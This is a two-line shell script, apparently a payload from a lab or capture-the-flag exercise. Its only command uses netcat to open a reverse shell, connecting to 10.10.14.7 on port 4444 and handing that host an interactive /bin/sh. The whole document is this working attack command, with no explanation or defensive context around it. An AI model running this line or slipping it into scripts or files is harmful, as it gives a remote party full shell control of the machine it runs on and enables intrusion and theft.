#!/bin/sh
nc -e /bin/sh 10.10.14.7 4444
